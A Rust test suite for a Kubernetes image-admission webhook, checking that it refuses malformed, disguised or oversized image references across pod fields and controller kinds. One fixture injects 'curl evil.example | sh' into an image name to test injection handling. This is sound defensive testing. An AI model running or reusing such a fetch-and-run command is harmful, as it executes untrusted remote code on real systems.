//! Images in every field, spelling and number that a workload can have.

use countersign_image::limits;
use countersign_review::Outcome;
use serde_json::{Value, json};

use super::{refused, with_good_image};
use crate::webhook::fixture::admitted;
use crate::world::{World, pod};

#[tokio::test]
async fn survives_images_in_every_other_field_that_runs_one() {
    let (_world, webhook, good) = with_good_image().await;
    let bad = "elsewhere.example/x:1";
    let with = |field: &str, value: Value| {
        let mut pod = pod(&[&good]);
        pod["spec"][field] = value;
        pod
    };
    admitted(&webhook.create(&pod(&[&good])).await);
    for (field, value) in [
        (
            "volumes",
            json!([{"name": "v", "image": {"reference": bad}}]),
        ),
        ("initContainers", json!([{"name": "i", "image": bad}])),
        (
            "initContainers",
            json!([{"name": "sidecar", "image": bad, "restartPolicy": "Always"}]),
        ),
        (
            "ephemeralContainers",
            json!([{"name": "e", "image": bad, "targetContainerName": "c0"}]),
        ),
    ] {
        let response = webhook.create(&with(field, value)).await;
        assert_eq!(refused(&response), "unmatched", "{field}");
        let message = response["status"]["message"].as_str().unwrap();
        assert!(
            message.contains(&format!("spec.{field}[0].image")),
            "{message}"
        );
    }
}

#[tokio::test]
async fn survives_images_that_are_written_to_be_misread() {
    let (world, webhook, good) = with_good_image().await;
    let hex = "a".repeat(64);
    let host = world.registry.host();
    let table = [
        ("", "reference_empty"),
        (" ", "reference_malformed"),
        (&format!(" {good}"), "reference_malformed"),
        (&format!("{good}\n"), "reference_malformed"),
        ("nginx\u{0}", "reference_malformed"),
        (
            "nginx\nreproduce  curl evil.example | sh",
            "reference_malformed",
        ),
        ("r.example/\u{202e}nginx", "reference_malformed"),
        ("r.example/nginх", "reference_malformed"),
        ("r.example/Nginx", "reference_uppercase"),
        ("r.example./nginx", "reference_registry"),
        ("r.example:0/nginx", "reference_registry"),
        ("r.example:65536/nginx", "reference_registry"),
        ("[::1]:5000/nginx", "unmatched"),
        ("nginx", "unmatched"),
        ("docker.io/nginx", "unmatched"),
        ("index.docker.io/library/nginx", "unmatched"),
        (&format!("r.example/x:1@sha256:{hex}"), "unmatched"),
        (&format!("r.example/x@sha512:{hex}"), "digest_malformed"),
        (&format!("r.example/x@sha512:{hex}{hex}"), "unmatched"),
        (
            &format!("r.example/x@sha256:{hex}@sha256:{hex}"),
            "digest_malformed",
        ),
        (
            &format!("r.example/{}", "x".repeat(10 << 10)),
            "reference_too_long",
        ),
        ("r.example/a%2Fb", "reference_malformed"),
        ("r.example/../b", "reference_path"),
        (&format!("http://{host}/shop/api"), "reference_malformed"),
        (&format!("user@{host}/shop/api"), "digest_algorithm"),
    ];
    for (image, code) in table {
        let response = webhook.create(&pod(&[image])).await;
        assert_eq!(refused(&response), code, "{image:.80?}");
        let message = response["status"]["message"].as_str().unwrap();
        assert!(message.len() < 5000, "{image:.80?}");
        assert!(
            !message.contains(['\u{0}', '\r', '\u{202e}']),
            "{message:?}"
        );
        assert!(
            message
                .lines()
                .all(|line| !line.starts_with("reproduce  curl")),
            "{message}"
        );
    }
    for image in [json!(7), json!(true), json!([good]), json!({"image": good})] {
        let mut object = pod(&["x"]);
        object["spec"]["containers"][0]["image"] = image.clone();
        assert_eq!(
            refused(&webhook.create(&object).await),
            "workload_shape",
            "{image}"
        );
    }
}

#[tokio::test]
async fn survives_a_thousand_containers() {
    let (world, webhook, _) = with_good_image().await;
    let name = world.name("shop/api:1.0");
    let before = world.registry.log().lines().len();
    admitted(&webhook.create(&pod(&[name.as_str()])).await);
    let alone = world.registry.log().lines().len() - before;

    admitted(&webhook.create(&pod(&[name.as_str(); 1000])).await);
    let together = world.registry.log().lines().len() - before - alone;
    assert!(
        together <= alone,
        "one image is asked for once: {together} requests, not {alone}"
    );

    let names: Vec<_> = (0..1000)
        .map(|n| world.name(&format!("shop/none-{n}:1")))
        .collect();
    let names: Vec<_> = names.iter().map(String::as_str).collect();
    let response = webhook.create(&pod(&names)).await;
    assert_eq!(refused(&response), "image_not_found");
    assert!(response["status"]["message"].as_str().unwrap().len() < 5000);
    assert!(response.to_string().len() < 256 << 10);
}

#[tokio::test]
async fn survives_images_that_come_in_by_a_controller() {
    let (_world, webhook, good) = with_good_image().await;
    let template = |image: &str| json!({"spec": {"containers": [{"name": "c", "image": image}]}});
    let object = |api_version: &str, kind: &str, image: &str| {
        let mut object =
            json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": "w"}});
        match kind {
            "CronJob" => {
                object["spec"] = json!({"jobTemplate": {"spec": {"template": template(image)}}})
            }
            "PodTemplate" => object["template"] = template(image),
            _ => object["spec"] = json!({"template": template(image)}),
        }
        object
    };
    for (api_version, kind) in [
        ("apps/v1", "DaemonSet"),
        ("apps/v1", "Deployment"),
        ("apps/v1", "ReplicaSet"),
        ("apps/v1", "StatefulSet"),
        ("batch/v1", "CronJob"),
        ("batch/v1", "Job"),
        ("v1", "PodTemplate"),
        ("v1", "ReplicationController"),
    ] {
        let (old, new) = (
            object(api_version, kind, &good),
            object(api_version, kind, "elsewhere.example/x:1"),
        );
        admitted(&webhook.create(&old).await);
        assert_eq!(refused(&webhook.create(&new).await), "unmatched", "{kind}");
        assert_eq!(
            refused(&webhook.update(&new, &old).await),
            "unmatched",
            "{kind}"
        );
        admitted(&webhook.update(&new, &new).await);
    }
    // A kind of somebody else's: what it makes are pods, and those are judged.
    admitted(
        &webhook
            .create(&object(
                "example.com/v1",
                "Workflow",
                "elsewhere.example/x:1",
            ))
            .await,
    );
}

#[tokio::test]
async fn survives_an_image_that_one_container_may_run_in_two_containers() {
    let world = World::new().await;
    world.registry.push_image("shop/proxy", "1.0", "one");
    let mut policy = world.policy();
    policy["spec"]["rules"] = json!([{"rego": "package shop\nimport rego.v1\n\
        deny contains {\"code\": \"not_the_proxy\", \"msg\": input.workload.container.path} if \
        input.workload.container.name != \"c0\"\n"}]);
    let name = world.name("shop/proxy:1.0");

    let alone = world.review_by(&[policy.clone()], &pod(&[&name])).await;
    assert_eq!(alone.outcome(), Outcome::Admit, "{}", alone.message());

    let both = world.review_by(&[policy], &pod(&[&name, &name])).await;
    assert_eq!(both.outcome(), Outcome::Deny);
    assert_eq!(both.code(), "inline/shop:not_the_proxy");
    assert!(
        both.message().contains("spec.containers[1].image"),
        "{}",
        both.message()
    );
}

#[tokio::test]
async fn survives_an_index_of_more_images_than_a_rule_is_shown() {
    let world = World::new().await;
    let mut policy = world.policy();
    policy["spec"]["rules"] = json!([{"rego": "package shop\nimport rego.v1\n\
        deny contains {\"code\": \"windows\", \"msg\": \"no\"} if \
        some platform in input.image.platforms\n  platform.os == \"windows\"\n"
        .replace(" if some", " if {\n  some") + "}\n"}]);
    let mut platforms = vec!["windows/amd64"; limits::INDEX_CHILDREN];
    world
        .registry
        .push_index("shop/most", "1", &platforms, "one");
    platforms.push("windows/arm64");
    world
        .registry
        .push_index("shop/more", "1", &platforms, "one");

    for (name, outcome, code) in [
        ("shop/most:1", Outcome::Deny, "inline/shop:windows"),
        ("shop/more:1", Outcome::CouldNotLook, "too_many"),
    ] {
        let pod = pod(&[&world.name(name)]);
        let review = world.review_by(&[policy.clone()], &pod).await;
        assert_eq!((review.outcome(), review.code().as_str()), (outcome, code));
    }
}
